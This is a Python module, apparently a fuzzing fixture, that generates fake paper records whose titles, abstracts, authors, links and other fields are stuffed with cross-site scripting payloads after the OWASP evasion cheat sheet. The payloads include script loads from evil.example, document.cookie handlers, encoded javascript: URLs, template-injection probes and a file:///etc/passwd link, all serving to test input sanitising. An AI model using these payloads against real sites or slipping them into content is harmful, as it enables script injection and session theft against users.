"""Papers whose every field was written to do harm: known cross-site scripting strings, and seeded mixtures of their parts."""

from __future__ import annotations

import random
from collections.abc import Iterator

# After OWASP's XSS Filter Evasion Cheat Sheet: each does its harm by a dialog, a request to evil.example or an error.
KNOWN = (
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://evil.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<STYLE>li {list-style-image: url("https://evil.example/x.png");}</STYLE><UL><LI>XSS</br>',
    "<svg/onload=alert('XSS')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    '<DIV STYLE="background-image: url(https://evil.example/x.png)">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<BASE HREF="https://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
    '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
    '<A HREF="//evil.example/">XSS</A>',
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    "<form><button formaction=javascript:alert(1)>X</button>",
    "<input onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\";alert('XSS');//",
    "';alert(String.fromCharCode(88,83,83))//\\\\';alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "'';!--\"<XSS>=&{()}",
    '0\\"autofocus/onfocus=alert(1)--><video/poster/onerror=prompt(2)>"-confirm(3)-"',
    "[a](javascript:alert(1))",
    "[a](j a v a s c r i p t:alert(1))",
    "![a](https://evil.example/x.png)",
    '![a](https://evil.example/x.png "onload=alert(1)")',
    "[a]: https://evil.example/x.png\n![a][a]",
    "<javascript:alert(1)>",
    '{: onclick="alert(1)" onmouseover=alert(1) }',
    '--8<-- "https://evil.example/x.md"',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '$\\class{x" onload="alert(1)}{y}$',
    "$x</math><script>alert(1)</script>$",
    "\\url{javascript:alert(1)}",
    '\\href{https://evil.example/" onclick="alert(1)}{x}',
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028</script><script>alert(1)//",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/)](javascript:alert(1))",
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/{{7*7}}{: onclick=alert(1)}",
    "https://user:pass@evil.example/<b>",
    "https://evil.example/\u202egpj.exe",
)
_PARTS = (
    "<", ">", "</", "/>", "\"", "'", "`", "=", "&", ";", ":", "//", "/*", "*/", "<!--", "-->", "--!>", "<![CDATA[", "]]>",
    "<script>", "</script>", "<SCRIPT/x>", "<svg/", "<img src=x ", "<a href=", "<iframe src=", "<math>", "<style>",
    "</style>", "</title>", "</textarea>", "<template>", "<base href=//evil.example/>", "<meta http-equiv=refresh ",
    "onerror=alert(1) ", "onload=alert(1) ", "onclick=alert(1) ", "onfocus=alert(1) autofocus ", "ontoggle=alert(1) open ",
    "javascript:alert(1)", "data:text/html,", "https://evil.example/", "alert(1)", "`alert(1)`", "&#106;avascript:", "&#x3c;",
    "&lt;", "&NewLine;", "&Tab;", "\\u003c", "%3C", "\x00", "\x0b", "\x1b[31m", "\u202e", "\u2028", "\ufeff", "\u00a0",
    "[x](", ")", "![x](", "[x]", "][", "[^1]", "*", "**", "_", "~~", "==", "`", "```", "#", "---", "\n", "\n\n", "\n    ", "|",
    "{: ", "}", "{{", "}}", "{%", "%}", "{#", "--8<-- ", "!!! note ", "$", "$$", "\\(", "\\)", "\\href{", "\\text{", "^", "_{", "\\",
    "word", "video", " ", " ", " ",
)  # fmt: skip


def mixture(random: random.Random) -> str:
    """One generated string: up to a dozen parts in a row, or a known one cut and mended with them."""
    parts = [random.choice(_PARTS) for _ in range(random.randint(2, 12))]
    if random.random() < 0.4:
        known = random.choice(KNOWN)
        cut = random.randrange(len(known))
        parts = [known[:cut], *parts[:3], known[cut:]]
    return "".join(parts)


def papers(count: int, seed: int) -> Iterator[dict[str, object]]:
    """JSON Lines rows whose fields hold the known strings once, and then mixtures: about forty in a paper."""
    drawn = random.Random(seed)
    known = iter(KNOWN)

    def take(number: int) -> list[str]:
        return [next(known, None) or mixture(drawn) for _ in range(number)]

    for number in range(count):
        yield {
            "title": f"Quokka {number} " + " ".join(take(2)),
            "abstract": f"Zanzibar {number}. " + " ".join(take(20)),
            "authors": [f"Eve {one}" for one in take(8)],
            "links": [{"kind": "code", "url": one} for one in drawn.sample(ADDRESSES, 3)]
            + [{"kind": "page", "url": f"https://evil.example/{one}"} for one in take(3)],
            "venue": take(1)[0],
            "licence": take(1)[0],
            "note": " ".join(take(4)),
            "curators": take(1),
            "date": "2024-05-06",
        }
